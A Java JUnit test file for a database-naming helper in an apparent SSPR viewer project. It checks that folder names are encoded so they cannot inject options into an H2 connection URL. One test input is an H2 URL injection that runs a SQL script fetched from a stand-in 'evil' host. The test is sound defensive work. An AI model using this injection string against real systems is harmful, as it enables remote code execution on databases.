package com.ssprviewer.store.schema;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/**
 * The name H2 is given for a store holds none of the characters its URL parses, whatever the folder is called, and
 * leads back to exactly that folder for every file H2 makes beside the database.
 */
class StoreFileSystemTest {

    @Test
    void theDatabaseNameHoldsOnlyLettersDigitsAndTheFileNameWhateverTheFolder() {
        for (String folder : new String[] {"/data/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'--", "/a:b=c d/Åsa 監査",
                "/audits;2025", "C:/Users/a/audits;2025", "/"}) {
            String name = StoreFileSystem.databaseName(Path.of(folder).resolve("sspr"));
            assertTrue(name.matches("sspr-store:[A-Za-z0-9_-]*/sspr"), name);
        }
    }

    @Test
    void everyFileH2MakesBesideTheDatabaseLeadsBackToTheRealFolder() {
        String folder = Path.of("/data/audits;2025/a:b=c d/Åsa 監査").toAbsolutePath().toString().replace('\\', '/');
        String name = StoreFileSystem.databaseName(Path.of(folder).resolve("sspr"));
        assertEquals(folder + "/sspr.mv.db", StoreFileSystem.decode(name + ".mv.db"));
        assertEquals(folder + "/sspr.trace.db", StoreFileSystem.decode(name + ".trace.db"));
        assertEquals(folder + "/sspr.mv.db", StoreFileSystem.decode(name.replace('/', '\\') + ".mv.db"));
        assertEquals(name + ".mv.db", StoreFileSystem.encode(folder + "/sspr.mv.db"));
        assertEquals("/", StoreFileSystem.decode(StoreFileSystem.encode("/")));
        assertEquals("/top", StoreFileSystem.decode(StoreFileSystem.encode("/top")));
    }
}
